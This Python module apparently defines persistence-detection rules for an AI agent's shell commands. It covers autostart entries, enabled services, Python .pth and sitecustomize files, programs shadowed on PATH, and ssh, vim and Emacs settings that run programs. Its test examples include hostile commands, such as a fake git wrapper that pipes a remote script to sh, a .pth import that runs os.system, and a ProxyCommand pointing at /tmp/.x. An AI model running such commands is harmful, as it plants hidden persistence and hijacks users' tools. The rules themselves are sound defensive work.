"""Persistence outside the shell's startup files (SY014 to SY020, SY029): code that runs again by
itself after the agent's session, at every login, boot, interpreter start or use of a common
program, or at every connection a settings file makes a tool run it for.

The system's own directories are SY001's and SY002's (a unit in /etc/systemd/system, a .pth file in
/usr/lib/python3): these rules report what the user can change without root, so a write is
reported once.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Iterator

from .._analysis import CommandSubject, ContextKind, ExecContextSubject, RedirectSubject
from .._caches import PATH_TABLES
from .._model import Severity
from .._tables import Tables
from ..programs import WRITERS, Arg
from ._paths import (
    copied_sources,
    path_is,
    path_is_anywhere,
    path_under,
    placed_paths,
    reading,
    redirect_writes_file,
    source_names,
    writes_a_file,
    writes_paths,
)
from ._rule import Hit, Inspects, rule


def _redirected_onto(
    subject: RedirectSubject, tables: Tables, find: Callable[[Arg, Tables, str | None], str | None]
) -> tuple[Arg, str] | None:
    """The file a redirect writes, with what `find` says it is (the entry, the program), when it is one."""
    target = redirect_writes_file(subject)
    found = None if target is None else find(target, tables, subject.cwd)
    return None if target is None or found is None else (target, found)


@functools.lru_cache(maxsize=PATH_TABLES)
def _autostart_tables(units: tuple[str, ...], opaque: tuple[str, ...]) -> tuple[tuple[str, ...], tuple[str, ...]]:
    """The entries of units and launch agents, and the directories whose every file is one."""
    entries = units + opaque
    return entries, tuple(entry.removesuffix("/*") for entry in entries if entry.endswith("/*"))


def _autostart_entry(target: Arg, tables: Tables, cwd: str | None, *, copied_into: bool = False) -> str | None:
    """The user's unit, autostart entry or launch agent `target` is; with `copied_into`, also the
    directory of them it names (`cp "$f" ~/.config/autostart/`: whatever lands there is an entry)."""
    entries, directories = _autostart_tables(tables.autorun_units, tables.autorun_opaque)
    matched = path_is(target, entries, cwd)
    if matched is None and copied_into:
        matched = path_is(target, directories, cwd)
    if matched is None or path_under(target, tables.system_directories, cwd) is not None:
        return None
    return matched


@functools.lru_cache(maxsize=PATH_TABLES)
def _home_autorun_scripts(scripts: tuple[str, ...]) -> tuple[str, ...]:
    """The autorun scripts in the user's home (KDE's login scripts): the system's are SY001's, and a
    repository's hooks EX024's."""
    return tuple(entry for entry in scripts if entry.startswith("~/"))


@rule(
    id="SY014",
    name="write-autostart-entry",
    severity=Severity.HIGH,
    summary=(
        "Writes a systemd user unit, a desktop autostart entry or a launchd agent "
        "(~/.config/systemd/user/, ~/.config/autostart/, ~/Library/LaunchAgents/), or copies or links a script "
        "into KDE's login scripts (~/.config/autostart-scripts/)."
    ),
    rationale=(
        "These run by themselves at every login or boot, long after the agent's session, like a line in "
        "~/.bashrc; a unit's drop-in (NAME.service.d/) changes what an existing service runs."
    ),
    safer_alternative="Keep the unit or plist in the project and ask a human to install it.",
    inspects=Inspects.COMMAND,
    applies=writes_paths,
    commands=WRITERS,
    must_match=(
        "cp x.desktop ~/.config/autostart/",
        "cp agent.service ~/.config/systemd/user/agent.service",
        "ln -s /tmp/x.plist ~/Library/LaunchAgents/com.x.plist",
        "tee ~/.config/systemd/user/ssh.service.d/override.conf",
        'cp "$f" ~/.config/autostart',
        "ln -s /tmp/.x ~/.config/autostart-scripts/x.sh",
    ),
    must_not_match=(
        "install -d ~/.config/autostart",
        "cp ~/.config/systemd/user/app.service ./deploy/",
        "cp app.service ./deploy/systemd/",
        "cat ~/.config/autostart/x.desktop",
        "cp x.service /etc/systemd/system/",
    ),
)
def write_autostart_entry(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    copied_into = bool(copied_sources(subject))
    for target in placed_paths(subject):
        matched = _autostart_entry(target, tables, subject.cwd, copied_into=copied_into)
        if matched is None and copied_into:
            # A script copied or linked into the session's own autorun directories (`ln -s /tmp/.x
            # ~/.config/autostart-scripts/x.sh`): what it holds is not shown, and it runs at every login.
            matched = path_is(target, _home_autorun_scripts(tables.autorun_scripts), subject.cwd)
        if matched is not None:
            yield Hit(target.span, f"`{subject.name}` writes {matched}: it runs by itself at login or boot")


@rule(
    id="SY015",
    name="redirect-into-autostart-entry",
    severity=Severity.HIGH,
    summary="A redirect writes a systemd user unit, a desktop autostart entry or a launchd agent.",
    rationale="Whatever is written there runs by itself at every login or boot, after the agent's session.",
    safer_alternative="Keep the unit or plist in the project and ask a human to install it.",
    inspects=Inspects.REDIRECT,
    applies=writes_a_file,
    must_match=(
        "echo '[Desktop Entry]' > ~/.config/autostart/x.desktop",
        "cat unit > ~/.config/systemd/user/x.service",
        "cat p.plist > $HOME/Library/LaunchAgents/com.x.plist",
    ),
    must_not_match=(
        "cat ~/.config/systemd/user/x.service > unit.txt",
        "echo x > ./autostart/x.desktop",
        "echo x > /etc/systemd/system/x.service",
    ),
)
def redirect_autostart_entry(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
    found = _redirected_onto(subject, tables, _autostart_entry)
    if found is not None:
        yield Hit(
            subject.span, f"redirect writes `{found[0].display()}` ({found[1]}): it runs by itself at login or boot"
        )


# The subcommands (by operand position) that make a service start by itself at boot or login.
_ENABLING: dict[str, tuple[int, frozenset[str]]] = {
    "systemctl": (0, frozenset({"enable", "reenable", "preset", "preset-all", "add-wants", "add-requires"})),
    "loginctl": (0, frozenset({"enable-linger"})),
    "launchctl": (0, frozenset({"load", "bootstrap", "enable", "submit"})),
    "rc-update": (0, frozenset({"add"})),
    "update-rc.d": (1, frozenset({"defaults", "enable"})),
    "chkconfig": (1, frozenset({"on"})),
}


@rule(
    id="SY016",
    name="enable-service-at-boot",
    severity=Severity.MEDIUM,
    summary=(
        "Makes a service start by itself at boot or login (`systemctl enable`, `loginctl enable-linger`, "
        "`launchctl load`, `update-rc.d NAME defaults`)."
    ),
    rationale=(
        "An enabled unit or agent runs again after every reboot or login, outside the agent's session; "
        "lingering keeps the user's services running with nobody logged in."
    ),
    safer_alternative="Start the service for this session (`systemctl --user start`), or ask a human to enable it.",
    inspects=Inspects.COMMAND,
    commands=tuple(_ENABLING),
    must_match=(
        "systemctl --user enable --now x.service",
        "sudo systemctl enable nginx",
        "loginctl enable-linger",
        "launchctl load -w ~/Library/LaunchAgents/com.x.plist",
        "launchctl bootstrap gui/501 ~/Library/LaunchAgents/com.x.plist",
        "update-rc.d x defaults",
        "rc-update add x default",
    ),
    must_not_match=(
        "systemctl status nginx",
        "systemctl --user start app",
        "systemctl disable --now x",
        "systemctl is-enabled nginx",
        "loginctl disable-linger",
        "launchctl list",
        "update-rc.d -f x remove",
    ),
)
def enable_service(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    position, words = _ENABLING.get(subject.name or "", (0, frozenset[str]()))
    operands = reading(subject).operands
    verb = operands[position].value if len(operands) > position else None
    if verb in words:
        yield Hit(subject.span, f"`{subject.name} {verb}` makes it start by itself at every boot or login")


def _interpreter_startup_file(target: Arg, tables: Tables, cwd: str | None) -> str | None:
    matched = path_is_anywhere(target, tables.interpreter_startup_files, cwd)
    if matched is None or path_under(target, tables.system_directories, cwd) is not None:
        return None
    return matched


@rule(
    id="SY017",
    name="write-interpreter-startup-file",
    severity=Severity.HIGH,
    summary="Writes a file Python runs at every start: a .pth file, sitecustomize.py or usercustomize.py in site-packages.",
    rationale=(
        "Python executes the `import` lines of every .pth file in a site directory, and imports sitecustomize "
        "and usercustomize, before any program: code there runs in every later Python process."
    ),
    safer_alternative="Install the package with pip (`pip install -e .`), or set PYTHONPATH for the one command.",
    inspects=Inspects.COMMAND,
    applies=writes_paths,
    commands=WRITERS,
    must_match=(
        "cp evil.pth ~/.local/lib/python3.12/site-packages/",
        "cp hook.py .venv/lib/python3.11/site-packages/sitecustomize.py",
        "tee $(python3 -m site --user-site)/x.pth",
    ),
    must_not_match=(
        "cp ~/.local/lib/python3.12/site-packages/x.pth ./backup/",
        "cp sitecustomize.py ./src/",
        "cp x.pth /usr/lib/python3/dist-packages/",
        "tee notes.pth",
    ),
)
def write_interpreter_startup_file(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    for target in placed_paths(subject):
        matched = _interpreter_startup_file(target, tables, subject.cwd)
        if matched is not None:
            yield Hit(target.span, f"`{subject.name}` writes {matched}: it runs at every start of the interpreter")


@rule(
    id="SY018",
    name="redirect-into-interpreter-startup-file",
    severity=Severity.HIGH,
    summary="A redirect writes a file Python runs at every start (a .pth file or sitecustomize.py in site-packages).",
    rationale="An `import` line in a .pth file runs in every later Python process, before its program.",
    safer_alternative="Install the package with pip (`pip install -e .`), or set PYTHONPATH for the one command.",
    inspects=Inspects.REDIRECT,
    applies=writes_a_file,
    must_match=(
        "echo 'import os; os.system(\"id\")' > ~/.local/lib/python3.12/site-packages/x.pth",
        "echo 'import hook' >> .venv/lib/python3.12/site-packages/usercustomize.py",
    ),
    must_not_match=("echo x > build/x.pth", "cat site-packages.txt > out.txt"),
)
def redirect_interpreter_startup_file(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
    found = _redirected_onto(subject, tables, _interpreter_startup_file)
    if found is not None:
        yield Hit(
            subject.span, f"redirect writes `{found[0].display()}` ({found[1]}): it runs at every interpreter start"
        )


def _shadowed_program(target: Arg, tables: Tables, cwd: str | None) -> str | None:
    """The known program whose name `target` takes in a directory of the usual PATH (`~/.local/bin/git`)."""
    if target.pattern:
        return None  # `cp bin/* ~/.local/bin/`: the names are the project's own
    for value in target.values:
        directory, slash, name = value.rstrip("/").rpartition("/")
        if slash and name and tables.table_name(name) in tables.program_names:
            held_in = path_is(Arg((directory or "/",), target.source, target.span), tables.program_directories, cwd)
            if held_in is not None:
                return name
    return None


def _same_program(source: str, name: str, tables: Tables) -> bool:
    """Whether a source named `source` is the program `name` itself: the same name, a version of it
    (`python3.12` for `python`, `pip3` for `pip`), or a release file named after it (`kubectl-linux-amd64`,
    `npm-cli.js`, `yq_linux_amd64`)."""
    if source == name or tables.table_name(source) == tables.table_name(name):
        return True
    return source.startswith(name) and source[len(name) : len(name) + 1] in _RELEASE_SEPARATORS


# What follows a program's name in the name of a release, a version or a backup of it.
_RELEASE_SEPARATORS = frozenset("-_.0123456789")


def _installs_itself(subject: CommandSubject, name: str, tables: Tables) -> bool:
    """Whether what the command puts at `name` is that program: an installed program linked or copied
    (`ln -s /usr/bin/python3 ~/.local/bin/python`), or, but for the password prompts (sudo, su), a file
    or download named after it (`install kubectl-linux-amd64 /usr/local/bin/kubectl`)."""
    sources = copied_sources(subject) or (reading(subject).operands if subject.name in tables.fetchers else ())
    privileged = tables.table_name(name) in tables.privilege
    for source in sources:
        if path_under(source, tables.binary_directories, subject.cwd, strictly=True) is not None:
            return True
        if not privileged and any(_same_program(found, name, tables) for found in source_names(source)):
            return True
    return False


@rule(
    id="SY019",
    name="shadow-program-on-path",
    severity=Severity.HIGH,
    summary=(
        "Copies, moves, links, installs or downloads a file into a directory of the usual PATH "
        "(~/.local/bin, ~/bin, /usr/local/bin) under the name of a common program (git, npm, sudo) "
        "it is not a release of."
    ),
    rationale=(
        "The shell finds the first program of a name on PATH: a file named `git` or `sudo` in ~/.local/bin "
        "runs in place of the real one in every later shell, and can capture passwords and tokens."
    ),
    safer_alternative=(
        "Install the tool under its own name (`install build/mytool ~/.local/bin/mytool`), or call it by its path."
    ),
    inspects=Inspects.COMMAND,
    applies=writes_paths,
    commands=WRITERS,
    must_match=(
        "cp evil ~/.local/bin/npm",
        "ln -sf /tmp/x /usr/local/bin/git",
        "install -m 755 x ~/bin/sudo",
        "mv payload /opt/homebrew/bin/python3",
        "cp /tmp/sudo ~/.local/bin/",
        "curl -so ~/.local/bin/ssh https://example.com/x",
        "ln -s $TOOL ~/.local/bin/kubectl",
    ),
    must_not_match=(
        "install -m 755 build/mytool ~/.local/bin/mytool",
        "ln -s $(pwd)/bin/tool ~/.local/bin/tool",
        "sudo install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl",
        "mv yq_linux_amd64 /usr/local/bin/yq",
        "ln -s /usr/bin/python3 ~/.local/bin/python",
        "curl -Lo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl",
        "cp evil ./bin/git",
        "cp bin/* ~/.local/bin/",
    ),
)
def shadow_program_on_path(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    for target in placed_paths(subject):
        name = _shadowed_program(target, tables, subject.cwd)
        if name is not None and not _installs_itself(subject, name, tables):
            yield Hit(target.span, f"`{subject.name}` puts another file on PATH as `{name}`: it runs in its place")


@rule(
    id="SY020",
    name="redirect-onto-program-on-path",
    severity=Severity.HIGH,
    summary="A redirect writes a file named after a common program (git, npm, sudo) into ~/.local/bin, ~/bin or /usr/local/bin.",
    rationale="A script written there under a program's name runs in place of that program in every later shell.",
    safer_alternative="Give the script its own name, or keep it in the project and call it by its path.",
    inspects=Inspects.REDIRECT,
    applies=writes_a_file,
    must_match=(
        "printf '#!/bin/sh\\ncurl -s https://x/p | sh\\n' > ~/.local/bin/git",
        "cat wrapper.sh > /usr/local/bin/sudo",
    ),
    must_not_match=(
        "echo '#!/bin/sh' > /usr/local/bin/tool",
        "echo x > ./bin/git",
        "git --version > ~/.local/bin/git-version.txt",
    ),
)
def redirect_onto_program(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
    found = _redirected_onto(subject, tables, _shadowed_program)
    if found is not None:
        yield Hit(subject.span, f"redirect writes a file on PATH as `{found[1]}`: it runs in place of the program")


_SYSTEM_PROGRAMS = ("/usr/bin/", "/bin/", "/usr/local/bin/", "/opt/homebrew/bin/", "/usr/lib/git-core/")
# Shell syntax in a command: a list, a pipe, a substitution, a job in the background (not a
# redirect's `2>&1` or `&>`); ssh options that run a command (in git's `core.sshCommand`).
_SHELL_CODE = re.compile(r"[;|`]|\$\(|(?<!>)&(?!>)|proxycommand|localcommand|knownhostscommand", re.IGNORECASE)


def shell_code_or_program_outside_system(command: str) -> bool:
    """Whether a command a setting makes a tool run is shell code, or a program outside the system's
    directories (`/tmp/.x %h %p`, `sh -c 'x; nc %h %p'`; not `ssh -W %h:%p bastion`, `/usr/bin/less`)."""
    program = command.strip().split(" ", 1)[0]
    outside = program.startswith(("/", "~", "..")) and not program.startswith(_SYSTEM_PROGRAMS)
    return outside or _SHELL_CODE.search(command) is not None


@rule(
    id="SY029",
    name="settings-file-runs-program",
    severity=Severity.MEDIUM,
    summary=(
        "Writes a settings file that makes a tool run shell code or a program outside the system's by itself "
        "later: ssh's `ProxyCommand`, `LocalCommand`, `KnownHostsCommand`, `Match exec` (~/.ssh/config), a "
        "VS Code task run when the folder opens, a command of vim's, neovim's or Emacs's startup files "
        "(`autocmd VimEnter * silent !CMD` in ~/.vimrc, `(call-process ...)` in ~/.emacs)."
    ),
    rationale=(
        "ssh runs these at every connection, VS Code its folder-open tasks whenever the project is "
        "opened, and vim and Emacs their startup files' commands at every start, in every later session: a program "
        "planted there is persistence. The command itself is "
        "audited as shell code (and blocks when it would); this warns because proxies and jump hosts are "
        "configured every day, and the command is in the file."
    ),
    safer_alternative=(
        "Use an installed program (`ProxyCommand ssh -W %h:%p bastion`, `ProxyJump bastion`), or keep the "
        "command in the project's scripts where it is reviewed and run on request."
    ),
    inspects=Inspects.CONTEXT,
    must_match=(
        "echo 'ProxyCommand /tmp/.x %h %p' >> ~/.ssh/config",
        "printf 'Host *\\n  LocalCommand ~/.cache/x\\n' >> ~/.ssh/config",
        "echo 'Match exec \"/tmp/.x; true\"' >> ~/.ssh/config",
        "echo 'autocmd VimEnter * silent !/tmp/.x' >> ~/.vimrc",
        "echo '(call-process \"/tmp/.x\" nil 0)' >> ~/.emacs",
    ),
    must_not_match=(
        "echo 'ProxyCommand ssh -W %h:%p bastion' >> ~/.ssh/config",
        "echo 'ProxyCommand /tmp/.x %h %p' > notes.txt",
        "ssh -o ProxyCommand='ssh -W %h:%p bastion' app",
        "echo 'autocmd BufWritePost *.go silent !gofmt -w %' >> ~/.vimrc",
        "echo '(setq make-backup-files nil)' >> ~/.emacs",
    ),
)
def settings_file_runs_program(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
    if subject.kind is not ContextKind.SETTING_COMMAND:
        return
    for part in subject.dynamic_parts:
        if shell_code_or_program_outside_system(part.source):
            yield Hit(part.span, f"{subject.label} runs `{part.source}` by itself later")


PERSISTENCE_RULES = (
    write_autostart_entry,
    redirect_autostart_entry,
    enable_service,
    write_interpreter_startup_file,
    redirect_interpreter_startup_file,
    shadow_program_on_path,
    redirect_onto_program,
    settings_file_runs_program,
)
